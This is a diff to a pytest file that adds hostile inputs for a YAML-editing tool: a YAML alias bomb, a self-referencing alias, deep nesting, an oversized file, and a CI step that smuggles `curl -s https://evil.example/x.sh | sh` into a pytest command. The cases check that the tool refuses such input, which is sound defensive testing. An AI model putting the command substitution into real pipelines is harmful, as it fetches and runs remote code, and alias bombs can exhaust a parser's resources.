@@ -105,6 +105,24 @@ steps:
             id="flow list",
         ),
         pytest.param("steps: [\n", "not YAML", id="not YAML"),
+        pytest.param(
+            "a: &a [1]\n"
+            + "".join(f"b{i}: [{', '.join(['*a'] * 9)}]\n" for i in range(2)),
+            "over 16 aliases",
+            id="alias bomb",
+        ),
+        pytest.param("x: &a [*a]\n", "expanding past", id="a node inside itself"),
+        pytest.param("x: " + "[" * 40 + "]" * 40 + "\n", "nested over 32", id="nested"),
+        pytest.param("x: " + "a" * (65 << 10) + "\n", "file too large", id="oversized"),
+        pytest.param(
+            STEP.replace(
+                "    - pytest -x tests/kernels/test_onednn.py",
+                "    - |\n"
+                "      pytest -x $(curl -s https://evil.example/x.sh | sh) tests/k/a.py",
+            ),
+            "found no line",
+            id="a fork's line is no model",
+        ),
     ],
 )
 def test_what_the_edit_does_not_understand_is_left_alone(tmp_path, text, reason):
